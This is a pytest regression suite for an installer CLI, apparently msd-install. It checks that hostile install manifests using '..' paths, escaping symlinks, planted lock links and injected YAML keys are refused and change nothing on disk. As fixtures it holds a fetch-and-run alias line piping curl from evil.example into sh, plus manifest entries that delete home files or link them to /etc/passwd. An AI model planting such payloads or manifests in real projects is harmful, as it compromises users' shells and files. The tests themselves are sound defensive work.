"""The issue's reproductions, through the real CLI process: a hostile manifest touches nothing.

Each scene has a home with a project in it and an "outside" directory next to it; the whole
tree (home, project, outside, the user's state directory) is compared byte for byte, links
as links. Before the fix, each of these wrote, deleted or linked outside the root.
"""

from __future__ import annotations

import hashlib
import json
import os
from pathlib import Path
from typing import Any

import pytest

from helpers import build, run_cli, snapshot

HINT = (
    "nothing was changed; one that came with a cloned project can be deleted; to set it aside "
    "and rebuild it from the files on disk, run msd-install --adopt with the same runtime and "
    "scope flags"
)
GLOBAL = ["--claude", "--global", "--yes"]
LOCAL = ["--claude", "--local", "--yes"]
MODES = {
    "install": [],
    "dry-run": ["--dry-run"],
    "check": ["--check"],
    "uninstall": ["--uninstall"],
}


def sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def scene(tmp_path: Path) -> tuple[Path, Path, Path]:
    home, outside = tmp_path / "home", tmp_path / "outside"
    build(home, {".bashrc": "my bashrc\n", "proj/src/app.py": "x = 1\n"})
    build(outside, {"victim.txt": "precious\n"})
    return home, home / "proj", outside


def refused(proc: Any, manifest: Path, problem: str) -> None:
    assert proc.returncode == 4, (proc.returncode, proc.stdout, proc.stderr)
    assert proc.stderr.splitlines() == [
        f"msd-install: error: {manifest}: install manifest refused: {problem} ({HINT})"
    ]
    assert proc.stdout == ""


def committed_clone(tmp_path: Path) -> tuple[Path, Path, Path]:
    """A cloned project whose committed manifest 'restores' a file into ~/.bash_aliases."""
    home, project, _ = scene(tmp_path)
    build(
        project,
        {
            ".claude/payload.sh": "alias ls='curl https://evil.example | sh'\n",
            ".claude/msd-file-manifest.json": json.dumps(
                {
                    "format": 1,
                    "runtime": "claude",
                    "scope": "local",
                    "files": {"../../.bash_aliases": {"sha256": "0" * 64, "mode": 0o644}},
                    "backups": [
                        {"path": "../../.bash_aliases", "backup": "payload.sh", "mode": 0o755}
                    ],
                    "config": [],
                    "dirs": [],
                    "state": [],
                }
            ),
        },
    )
    return home, project, project / ".claude/msd-file-manifest.json"


@pytest.mark.parametrize("mode", list(MODES))
def test_a_committed_manifest_cannot_restore_a_file_into_the_home(
    tmp_path: Path, mode: str
) -> None:
    """Before: `msd-install --claude --local --yes` in the clone created ~/.bash_aliases
    with the project's payload, mode 755, and exited 0."""
    home, project, manifest = committed_clone(tmp_path)
    before = snapshot(tmp_path)
    proc = run_cli([*LOCAL, *MODES[mode]], home, cwd=project)
    refused(proc, manifest, "files: '../../.bash_aliases' has a '..' component")
    assert snapshot(tmp_path) == before
    assert not (home / ".bash_aliases").exists()


def test_doctor_refuses_the_committed_manifest_too(tmp_path: Path) -> None:
    home, project, manifest = committed_clone(tmp_path)
    before = snapshot(tmp_path)
    proc = run_cli(["doctor"], home, cwd=project)
    refused(proc, manifest, "files: '../../.bash_aliases' has a '..' component")
    assert snapshot(tmp_path) == before


def installed(tmp_path: Path) -> tuple[Path, Path, Path, dict[str, Any]]:
    home, _, outside = scene(tmp_path)
    assert run_cli(GLOBAL, home).returncode == 0
    manifest = home / ".claude/msd-file-manifest.json"
    return home, outside, manifest, json.loads(manifest.read_text())


def edit(manifest: Path, doc: dict[str, Any]) -> None:
    manifest.write_text(json.dumps(doc, indent=2))


def test_an_edited_manifest_cannot_delete_outside_files_by_hash(tmp_path: Path) -> None:
    """Before: --uninstall deleted outside/victim.txt, exit 0."""
    home, outside, manifest, doc = installed(tmp_path)
    victim = outside / "victim.txt"
    doc["files"]["../../outside/victim.txt"] = {"sha256": sha(victim.read_bytes()), "mode": 420}
    edit(manifest, doc)
    before = snapshot(tmp_path)
    proc = run_cli([*GLOBAL, "--uninstall"], home)
    refused(proc, manifest, "files: '../../outside/victim.txt' has a '..' component")
    assert snapshot(tmp_path) == before


def test_an_edited_manifest_cannot_delete_outside_files_through_a_symlinked_directory(
    tmp_path: Path,
) -> None:
    """The same delete by hash, with the path spelled inside the root and a link doing the
    escaping: the root's `escape` directory points at the home."""
    home, _, manifest, doc = installed(tmp_path)
    (home / ".claude/escape").symlink_to(home)
    doc["files"]["escape/.bashrc"] = {"sha256": sha(b"my bashrc\n"), "mode": 420}
    edit(manifest, doc)
    before = snapshot(tmp_path)
    for args in ([*GLOBAL, "--uninstall"], GLOBAL, [*GLOBAL, "--check"], ["doctor"]):
        proc = run_cli(args, home)
        refused(
            proc,
            manifest,
            "files: 'escape/.bashrc' passes through 'escape', a symlink leading out of the root",
        )
    assert snapshot(tmp_path) == before


@pytest.mark.parametrize("state", ["../.bashrc", "/etc/hostname", "settings.json"])
def test_an_edited_manifest_cannot_delete_state_paths_it_chooses(
    tmp_path: Path, state: str
) -> None:
    """Before: --uninstall deleted ~/.bashrc (a `state` path: no hash check at all)."""
    home, _, manifest, doc = installed(tmp_path)
    doc["state"].append(state)
    edit(manifest, doc)
    before = snapshot(tmp_path)
    proc = run_cli([*GLOBAL, "--uninstall"], home)
    refused(
        proc,
        manifest,
        f"state: {state!r} is not a file msd writes at run time in this root "
        "(expected 'msd-core/cache/msd-update-check.json' or "
        "'msd/cache/msd-update-check.json')",  # the latter: an earlier version's (migrations)
    )
    assert snapshot(tmp_path) == before


def test_an_edited_manifest_cannot_turn_a_users_file_into_a_link_to_etc_passwd(
    tmp_path: Path,
) -> None:
    """Before: --uninstall replaced ~/.bashrc with a symlink to /etc/passwd."""
    home, _, manifest, doc = installed(tmp_path)
    doc["files"]["../.bashrc"] = {"sha256": sha(b"my bashrc\n"), "mode": 420}
    doc["backups"].append({"path": "../.bashrc", "backup": "", "link": "/etc/passwd", "mode": 0})
    edit(manifest, doc)
    before = snapshot(tmp_path)
    proc = run_cli([*GLOBAL, "--uninstall"], home)
    refused(proc, manifest, "files: '../.bashrc' has a '..' component")
    assert snapshot(tmp_path) == before


def test_an_edited_manifest_cannot_turn_one_of_our_files_into_a_link_to_etc_passwd(
    tmp_path: Path,
) -> None:
    """Before: --uninstall left hooks/msd-read-guard.py as a symlink to /etc/passwd.

    The record is well formed (a --force'd symlink is recorded just like this), so the
    manifest is not refused; it is foreign (edited), and a foreign manifest never creates a
    symlink: our file is removed by hash and the link is reported, not made."""
    home, outside, manifest, doc = installed(tmp_path)
    doc["backups"].append(
        {"path": "hooks/msd-read-guard.py", "backup": "", "link": "/etc/passwd", "mode": 0}
    )
    edit(manifest, doc)
    outside_before = snapshot(outside)
    proc = run_cli([*GLOBAL, "--uninstall"], home)
    assert proc.returncode == 0, proc.stderr
    assert "note: hooks/msd-read-guard.py was a symlink to '/etc/passwd': not re-created" in (
        proc.stdout
    )
    assert "was not written by your msd-install" in proc.stdout
    links = [p for p in tmp_path.rglob("*") if p.is_symlink()]
    assert links == []
    assert not (home / ".claude").exists()  # everything else of msd's went as usual
    assert snapshot(outside) == outside_before
    assert (home / ".bashrc").read_text() == "my bashrc\n"


def test_a_planted_lock_symlink_is_not_written_through(tmp_path: Path) -> None:
    """The lock file is opened without following links: a cloned project's
    `.claude/.msd-install.lock -> ~/.bashrc` would get our pid over its first bytes."""
    home, project, _ = scene(tmp_path)
    (project / ".claude").mkdir()
    (project / ".claude/.msd-install.lock").symlink_to(home / ".bashrc")
    before = snapshot(tmp_path)
    proc = run_cli(LOCAL, home, cwd=project)
    assert proc.returncode == 4
    assert proc.stderr.splitlines() == [
        f"msd-install: error: {project / '.claude/.msd-install.lock'}: is a symlink; "
        "msd-install only uses a lock file of its own (remove the link; nothing was changed)"
    ]
    assert snapshot(tmp_path) == before


def test_a_fifo_in_place_of_our_file_does_not_hang_uninstall(tmp_path: Path) -> None:
    home, _, _, _ = installed(tmp_path)
    agent = home / ".claude/agents/msd-planner.md"
    agent.unlink()
    os.mkfifo(agent)
    proc = run_cli([*GLOBAL, "--uninstall"], home)
    assert proc.returncode == 0, proc.stderr
    assert "not a plain file (yours): kept" in proc.stdout
    assert agent.exists() and not agent.is_file()


def test_a_hostile_yaml_interior_cannot_add_an_entry_to_hermes_config(tmp_path: Path) -> None:
    """Hermes' config.yaml is edited by the YAML splice editor: what a recorded op puts back
    is checked against the parsed result, so an edited manifest cannot smuggle a key in."""
    home, _, outside = scene(tmp_path)
    build(home, {".hermes/config.yaml": "model: x\n"})
    assert run_cli(["--hermes", "--global", "--yes"], home).returncode == 0
    manifest = home / ".hermes/msd-file-manifest.json"
    doc = json.loads(manifest.read_text())
    for record in doc["config"]:
        for op in record["ops"]:
            if op.get("interior"):
                inserted = json.loads(op["interior"])[0]
                op["interior"] = json.dumps([inserted, "evil: curl evil | sh\n"])
    edit(manifest, doc)
    outside_before = snapshot(outside)
    proc = run_cli(["--hermes", "--global", "--yes", "--uninstall"], home)
    assert proc.returncode in (0, 4), proc.stderr
    if proc.returncode == 4:
        assert len(proc.stderr.splitlines()) == 1
    assert "evil" not in (home / ".hermes/config.yaml").read_text()
    assert snapshot(outside) == outside_before
